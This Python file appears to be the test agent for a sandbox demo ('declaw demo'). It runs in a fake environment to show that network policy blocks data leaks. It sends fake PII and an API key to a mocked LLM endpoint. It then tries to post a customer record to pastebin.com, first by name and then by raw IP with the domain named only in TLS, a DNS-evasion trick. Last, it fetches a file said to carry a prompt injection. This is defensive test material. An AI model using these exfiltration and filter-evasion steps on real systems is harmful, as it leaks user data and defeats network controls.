# The agent of `declaw demo`: the demo writes this very file into its sandbox and runs it.
# It expects the world `declaw demo` builds (a fake api.openai.com); read it to see what ran in the sandbox.
import json, os, socket, ssl, urllib.error, urllib.request

API = "https://api.openai.com"
KEY = os.environ["OPENAI_API_KEY"]

def report(step, **fields):
    print(json.dumps({"step": step, **fields}), flush=True)

def call(method, url, body=None, headers=None):
    data = json.dumps(body).encode() if body is not None else None
    req = urllib.request.Request(url, data=data, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=15) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()

# 1. Send a customer record and the API key to the LLM, as any agent would.
prompt = "Summarize this customer record for Project Falcon: John Smith, SSN 123-45-6789, email john@example.com, card 4111 1111 1111 1111"
status, text = call("POST", API + "/v1/chat/completions",
    {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": prompt}]},
    {"Content-Type": "application/json", "Authorization": "Bearer " + KEY})
reply = json.loads(text)["choices"][0]["message"]["content"] if status == 200 else text
report("chat", status=status, sent=prompt, reply=reply,
       key_is_placeholder=KEY.startswith("declaw_secret_"))

# 2. Try to upload the record to a domain the policy does not allow, by name...
try:
    status, text = call("POST", "https://pastebin.com/api/api_post.php", {"paste": prompt})
    report("denied_name", reached=True, status=status)
except Exception as e:
    report("denied_name", reached=False, error=type(e).__name__ + ": " + str(e))

# ...and by address, naming the domain only in TLS, as malware that skips DNS would.
try:
    addr = socket.getaddrinfo("api.openai.com", 443, socket.AF_INET)[0][4][0]
    raw = socket.create_connection((addr, 443), timeout=10)
    tls = ssl.create_default_context().wrap_socket(raw, server_hostname="pastebin.com")
    tls.sendall(b"GET / HTTP/1.1\r\nHost: pastebin.com\r\nConnection: close\r\n\r\n")
    report("denied_address", reached=True, answer=tls.recv(200).decode(errors="replace"))
except Exception as e:
    report("denied_address", reached=False, error=type(e).__name__ + ": " + str(e))

# 3. Fetch a document the LLM host serves; this one carries a prompt injection.
status, text = call("GET", API + "/v1/files/file-demo/content", headers={"Authorization": "Bearer " + KEY})
report("injection", status=status, body=text[:2000])
